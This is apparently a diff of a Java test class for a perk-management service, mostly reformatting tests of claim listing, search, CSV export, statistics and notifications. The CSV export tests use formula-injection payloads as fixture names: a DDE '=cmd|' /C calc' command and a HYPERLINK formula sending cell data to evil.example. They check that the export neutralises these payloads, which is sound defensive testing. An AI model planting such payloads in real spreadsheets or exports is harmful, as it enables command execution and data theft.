@@ -45,16 +45,22 @@ class PerkOperationsTest {
 
     @Autowired
     TestData data;
+
     @Autowired
     PerksFixtures fixtures;
+
     @Autowired
     PerkOperations operations;
+
     @Autowired
     EngagementService engagement;
+
     @Autowired
     AuditService audit;
+
     @Autowired
     PerkPulseRepository pulses;
+
     @Autowired
     TransactionTemplate tx;
 
@@ -87,7 +93,8 @@ class PerkOperationsTest {
         for (int i = 0; i < 33; i++) {
             AuthenticatedUser m = data.person(alpha, Role.MEMBER, "m%02d@alpha.example".formatted(i));
             members.add(m.accountId());
-            ClaimStatus status = i < 25 ? ClaimStatus.CONFIRMED : i < 30 ? ClaimStatus.WAITLISTED : ClaimStatus.CANCELLED;
+            ClaimStatus status =
+                    i < 25 ? ClaimStatus.CONFIRMED : i < 30 ? ClaimStatus.WAITLISTED : ClaimStatus.CANCELLED;
             fixtures.claimAt(alpha.id(), event, m.accountId(), status, null, t0.plusSeconds(60L * i));
         }
         TestData.signIn(manager);
@@ -96,19 +103,24 @@ class PerkOperationsTest {
         assertThat(first.getTotalElements()).isEqualTo(33);
         assertThat(first.getContent()).extracting(ClaimRow::memberId).containsExactlyElementsOf(members.subList(0, 10));
         assertThat(first.getContent().getFirst().email()).isEqualTo("m00@alpha.example");
-        assertThat(operations.claims(event, Set.of(), null, PageRequest.of(3, 10)).getContent()).hasSize(3);
+        assertThat(operations
+                        .claims(event, Set.of(), null, PageRequest.of(3, 10))
+                        .getContent())
+                .hasSize(3);
         assertThat(operations.countClaims(event, Set.of(), "")).isEqualTo(33);
 
-        Page<ClaimRow> newest = operations.claims(event, Set.of(), "",
-                PageRequest.of(0, 5, Sort.by(Sort.Direction.DESC, "claimedAt")));
+        Page<ClaimRow> newest =
+                operations.claims(event, Set.of(), "", PageRequest.of(0, 5, Sort.by(Sort.Direction.DESC, "claimedAt")));
         assertThat(newest.getContent().getFirst().memberId()).isEqualTo(members.getLast());
 
         Page<ClaimRow> waiting = operations.claims(event, Set.of(ClaimStatus.WAITLISTED), "", PageRequest.of(0, 50));
         assertThat(waiting.getContent()).hasSize(5).allMatch(r -> r.status() == ClaimStatus.WAITLISTED);
         assertThat(operations.countClaims(event, Set.of(ClaimStatus.WAITLISTED, ClaimStatus.CANCELLED), ""))
                 .isEqualTo(8);
-        assertThat(operations.claims(event, Set.of(), "", PageRequest.of(0, 5, Sort.by("unknownColumn")))
-                .getContent()).hasSize(5);
+        assertThat(operations
+                        .claims(event, Set.of(), "", PageRequest.of(0, 5, Sort.by("unknownColumn")))
+                        .getContent())
+                .hasSize(5);
     }
 
     @Test
@@ -120,27 +132,34 @@ class PerkOperationsTest {
         TestData.signIn(manager);
         Pageable page = PageRequest.of(0, 20);
 
-        assertThat(operations.claims(event, Set.of(), "helene", page)).extracting(ClaimRow::name)
+        assertThat(operations.claims(event, Set.of(), "helene", page))
+                .extracting(ClaimRow::name)
                 .containsExactly("Hélène Dupont");
-        assertThat(operations.claims(event, Set.of(), "LÉVY", page)).extracting(ClaimRow::name)
+        assertThat(operations.claims(event, Set.of(), "LÉVY", page))
+                .extracting(ClaimRow::name)
                 .containsExactly("Marc Lévy");
-        assertThat(operations.claims(event, Set.of(), "zoe@", page)).extracting(ClaimRow::name)
+        assertThat(operations.claims(event, Set.of(), "zoe@", page))
+                .extracting(ClaimRow::name)
                 .containsExactly("Zoé Martin");
         assertThat(operations.countClaims(event, Set.of(), "@alpha.example")).isEqualTo(3);
-        assertThat(operations.claims(event, Set.of(ClaimStatus.CONFIRMED), "zoe", page)).isEmpty();
-        assertThat(operations.countClaims(event, Set.of(ClaimStatus.CONFIRMED), "zoe")).isZero();
-        assertThat(operations.claims(event, Set.of(), "nobody-like-this", page).getTotalElements()).isZero();
+        assertThat(operations.claims(event, Set.of(ClaimStatus.CONFIRMED), "zoe", page))
+                .isEmpty();
+        assertThat(operations.countClaims(event, Set.of(ClaimStatus.CONFIRMED), "zoe"))
+                .isZero();
+        assertThat(operations.claims(event, Set.of(), "nobody-like-this", page).getTotalElements())
+                .isZero();
     }
 
     @Test
     void theCsvExportHasAHeaderOneLinePerClaimEscapedCellsUtcDatesAndNoFormulas() throws Exception {
-        AuthenticatedUser comma = fixtures.person(alpha, Role.MEMBER, "comma@alpha.example", "Dupont, \"Jo\"",
-                Locale.FRENCH);
-        AuthenticatedUser formula = fixtures.person(alpha, Role.MEMBER, "formula@alpha.example", "=cmd|' /C calc'!A0",
-                Locale.FRENCH);
+        AuthenticatedUser comma =
+                fixtures.person(alpha, Role.MEMBER, "comma@alpha.example", "Dupont, \"Jo\"", Locale.FRENCH);
+        AuthenticatedUser formula =
+                fixtures.person(alpha, Role.MEMBER, "formula@alpha.example", "=cmd|' /C calc'!A0", Locale.FRENCH);
         long seats = fixtures.coCreation(manager, "Collection 2027", 3);
         Instant at = Instant.parse("2026-11-02T09:15:30Z");
-        fixtures.claimAt(alpha.id(), seats, comma.accountId(), ClaimStatus.APPLIED, "I love it, \"really\"\nsince 2010", at);
+        fixtures.claimAt(
+                alpha.id(), seats, comma.accountId(), ClaimStatus.APPLIED, "I love it, \"really\"\nsince 2010", at);
         fixtures.claimAt(alpha.id(), seats, formula.accountId(), ClaimStatus.APPLIED, "+1 555 0100", at.plusSeconds(1));
         fixtures.claimAt(alpha.id(), seats, helene.accountId(), ClaimStatus.APPLIED, "@SUM(A1:A9)", at.plusSeconds(2));
         fixtures.claimAt(alpha.id(), seats, marc.accountId(), ClaimStatus.APPLIED, "-2 or =1+1", at.plusSeconds(3));
@@ -149,12 +168,19 @@ class PerkOperationsTest {
         StringWriter out = new StringWriter();
         operations.exportCsv(seats, Set.of(), out);
 
-        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
-                .parse(new StringReader(out.toString())).getRecords();
-        assertThat(out.toString()).startsWith(
-                "claim_id,member_id,name,email,status,attendance,motivation,code,claimed_at,decided_at,checked_in_at");
+        List<CSVRecord> records = CSVFormat.DEFAULT
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new StringReader(out.toString()))
+                .getRecords();
+        assertThat(out.toString())
+                .startsWith(
+                        "claim_id,member_id,name,email,status,attendance,motivation,code,claimed_at,decided_at,checked_in_at");
         assertThat(records).hasSize(4);
-        assertThat(records).extracting(r -> r.get("name"), r -> r.get("motivation"), r -> r.get("claimed_at"))
+        assertThat(records)
+                .extracting(r -> r.get("name"), r -> r.get("motivation"), r -> r.get("claimed_at"))
                 .containsExactly(
                         tuple("Dupont, \"Jo\"", "I love it, \"really\"\nsince 2010", "2026-11-02T09:15:30Z"),
                         tuple("'=cmd|' /C calc'!A0", "'+1 555 0100", "2026-11-02T09:15:31Z"),
@@ -162,23 +188,36 @@ class PerkOperationsTest {
                         tuple("Marc Lévy", "'-2 or =1+1", "2026-11-02T09:15:33Z"));
         assertThat(records.getFirst().get("status")).isEqualTo("APPLIED");
         assertThat(records.getFirst().get("decided_at")).isEmpty();
-        assertThat(audit.tenantLog(Pageable.ofSize(20)).getContent()).extracting(AuditRecord::action,
-                AuditRecord::target).contains(tuple("perk.claims-exported", "perk:" + seats));
+        assertThat(audit.tenantLog(Pageable.ofSize(20)).getContent())
+                .extracting(AuditRecord::action, AuditRecord::target)
+                .contains(tuple("perk.claims-exported", "perk:" + seats));
     }
 
     @Test
     void theCsvExportNeutralisesADisplayNameASpreadsheetWouldRunAsAFormula() throws Exception {
         String formula = "=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"Click me\")";
-        AuthenticatedUser member = fixtures.person(alpha, Role.MEMBER, "hyperlink@alpha.example", formula, Locale.FRENCH);
+        AuthenticatedUser member =
+                fixtures.person(alpha, Role.MEMBER, "hyperlink@alpha.example", formula, Locale.FRENCH);
         long seats = fixtures.coCreation(manager, "Collection 2028", 3);
-        fixtures.claimAt(alpha.id(), seats, member.accountId(), ClaimStatus.APPLIED, "@me", Instant.parse("2026-11-02T09:15:30Z"));
+        fixtures.claimAt(
+                alpha.id(),
+                seats,
+                member.accountId(),
+                ClaimStatus.APPLIED,
+                "@me",
+                Instant.parse("2026-11-02T09:15:30Z"));
         TestData.signIn(manager);
 
         StringWriter out = new StringWriter();
         operations.exportCsv(seats, Set.of(), out);
 
-        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
-                .parse(new StringReader(out.toString())).getRecords();
+        List<CSVRecord> records = CSVFormat.DEFAULT
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new StringReader(out.toString()))
+                .getRecords();
         assertThat(records).singleElement().satisfies(r -> {
             assertThat(r.get("name")).isEqualTo("'" + formula);
             assertThat(r.get("motivation")).isEqualTo("'@me");
@@ -196,11 +235,18 @@ class PerkOperationsTest {
         StringWriter out = new StringWriter();
         operations.exportCsv(preview, Set.of(ClaimStatus.CONFIRMED), out);
 
-        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
-                .parse(new StringReader(out.toString())).getRecords();
-        assertThat(records).extracting(r -> r.get("email"), r -> r.get("code"))
+        List<CSVRecord> records = CSVFormat.DEFAULT
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new StringReader(out.toString()))
+                .getRecords();
+        assertThat(records)
+                .extracting(r -> r.get("email"), r -> r.get("code"))
                 .containsExactly(tuple("helene@alpha.example", "CODE-1"));
-        assertThat(operations.claims(preview, Set.of(), "", PageRequest.of(0, 10))).extracting(ClaimRow::code)
+        assertThat(operations.claims(preview, Set.of(), "", PageRequest.of(0, 10)))
+                .extracting(ClaimRow::code)
                 .containsExactly("CODE-1", null);
     }
 
@@ -227,21 +273,27 @@ class PerkOperationsTest {
         long first = fixtures.claimRow(alpha.id(), confirmed.get(0)).getMemberId();
         long second = fixtures.claimRow(alpha.id(), confirmed.get(1)).getMemberId();
         long third = fixtures.claimRow(alpha.id(), confirmed.get(2)).getMemberId();
-        TenantContext.runAs(alpha.id(), () -> tx.executeWithoutResult(s -> {
-            Instant now = Instant.now();
-            pulses.save(new PerkPulse(event, first, now)).answer(4, now);
-            pulses.save(new PerkPulse(event, second, now)).answer(5, now);
-            pulses.save(new PerkPulse(event, third, now));
-        }));
+        TenantContext.runAs(
+                alpha.id(),
+                () -> tx.executeWithoutResult(s -> {
+                    Instant now = Instant.now();
+                    pulses.save(new PerkPulse(event, first, now)).answer(4, now);
+                    pulses.save(new PerkPulse(event, second, now)).answer(5, now);
+                    pulses.save(new PerkPulse(event, third, now));
+                }));
 
         PerkFigures f = operations.figures(event);
         assertThat(f).isEqualTo(new PerkFigures(6, 2, 1, 0, 0, 0, 3, 3, 0.5, 10, 4, 0, 0, 3, 2, 4.5));
 
         long preview = fixtures.earlyAccess(manager, "Avant-première", "A", "B", "C", "D", "E");
-        fixtures.assignCode(alpha.id(), preview, fixtures.claim(alpha.id(), preview, helene.accountId(),
-                ClaimStatus.CONFIRMED, null));
-        fixtures.assignCode(alpha.id(), preview, fixtures.claim(alpha.id(), preview, marc.accountId(),
-                ClaimStatus.CONFIRMED, null));
+        fixtures.assignCode(
+                alpha.id(),
+                preview,
+                fixtures.claim(alpha.id(), preview, helene.accountId(), ClaimStatus.CONFIRMED, null));
+        fixtures.assignCode(
+                alpha.id(),
+                preview,
+                fixtures.claim(alpha.id(), preview, marc.accountId(), ClaimStatus.CONFIRMED, null));
         PerkFigures codes = operations.figures(preview);
         assertThat(codes.codesTotal()).isEqualTo(5);
         assertThat(codes.codesFree()).isEqualTo(3);
@@ -300,11 +352,16 @@ class PerkOperationsTest {
         fixtures.claim(alpha.id(), event, marc.accountId(), ClaimStatus.WAITLISTED, null);
         TestData.signIn(manager);
 
-        assertThat(operations.checkInSearch(event, "ZOE", 10)).extracting(ClaimRow::name).containsExactly("Zoé Martin");
+        assertThat(operations.checkInSearch(event, "ZOE", 10))
+                .extracting(ClaimRow::name)
+                .containsExactly("Zoé Martin");
         assertThat(operations.checkInSearch(event, "marc", 10)).isEmpty();
-        assertThat(operations.checkInSearch(event, "", 10)).extracting(ClaimRow::name)
+        assertThat(operations.checkInSearch(event, "", 10))
+                .extracting(ClaimRow::name)
                 .containsExactly("Hélène Dupont", "Zoé Martin");
-        assertThat(operations.checkInSearch(event, " ", 1)).extracting(ClaimRow::name).containsExactly("Hélène Dupont");
+        assertThat(operations.checkInSearch(event, " ", 1))
+                .extracting(ClaimRow::name)
+                .containsExactly("Hélène Dupont");
     }
 
     @Test
@@ -332,15 +389,20 @@ class PerkOperationsTest {
         assertThat(List.of(f.applied(), f.selected(), f.notSelected())).containsExactly(1L, 2L, 1L);
         assertThat(f.placesLeft()).isZero();
 
-        assertThat(fixtures.notificationsOf(helene, NotificationType.PERK_SELECTED)).singleElement()
+        assertThat(fixtures.notificationsOf(helene, NotificationType.PERK_SELECTED))
+                .singleElement()
                 .satisfies(n -> {
                     assertThat(n.params()).containsExactly("Collection 2027");
                     assertThat(n.target()).isEqualTo(PerkTarget.of(seats));
                 });
-        assertThat(fixtures.notificationsOf(marc, NotificationType.PERK_SELECTED)).hasSize(1);
-        assertThat(fixtures.notificationsOf(ana, NotificationType.PERK_NOT_SELECTED)).hasSize(1);
-        assertThat(fixtures.notificationsOf(zoe, NotificationType.PERK_SELECTED)).isEmpty();
-        assertThat(fixtures.notificationsOf(zoe, NotificationType.PERK_NOT_SELECTED)).isEmpty();
+        assertThat(fixtures.notificationsOf(marc, NotificationType.PERK_SELECTED))
+                .hasSize(1);
+        assertThat(fixtures.notificationsOf(ana, NotificationType.PERK_NOT_SELECTED))
+                .hasSize(1);
+        assertThat(fixtures.notificationsOf(zoe, NotificationType.PERK_SELECTED))
+                .isEmpty();
+        assertThat(fixtures.notificationsOf(zoe, NotificationType.PERK_NOT_SELECTED))
+                .isEmpty();
     }
 
     @Test
@@ -375,14 +437,17 @@ class PerkOperationsTest {
     }
 
     private static void refused(ThrowingCallable call, String field, String key) {
-        assertThatThrownBy(call).isInstanceOf(InvalidInputException.class)
-                .satisfies(e -> assertThat(((InvalidInputException) e).fieldErrors()).containsEntry(field, key));
+        assertThatThrownBy(call)
+                .isInstanceOf(InvalidInputException.class)
+                .satisfies(e ->
+                        assertThat(((InvalidInputException) e).fieldErrors()).containsEntry(field, key));
     }
 
     private long attendanceEntries(AuthenticatedUser member, long perkId) {
         TestData.signIn(member);
         return engagement.myLedger(PageRequest.of(0, 50)).stream()
-                .filter(e -> e.action() == EngagementAction.ATTENDED_EVENT && e.reference().equals("perk:" + perkId))
+                .filter(e -> e.action() == EngagementAction.ATTENDED_EVENT
+                        && e.reference().equals("perk:" + perkId))
                 .count();
     }
 }
